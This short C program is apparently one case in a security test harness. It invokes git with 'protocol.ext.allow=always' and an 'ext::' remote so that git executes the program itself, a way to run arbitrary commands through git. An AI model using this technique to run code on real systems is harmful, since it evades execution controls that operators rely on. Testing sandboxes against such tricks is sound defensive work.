/* SPDX-License-Identifier: Apache-2.0 */
/* A transport of git that is this program. */
#define ATTACK "git-ext"
#include "borrowed.h"

int main(int count, char **argument)
{
	(void)count;
	start_attack(argument);
	run_to_end((char *[]){ "git", "-c", "protocol.ext.allow=always", "ls-remote", text("ext::%s", borrowed_self), NULL });
	finish_by_answer();
}
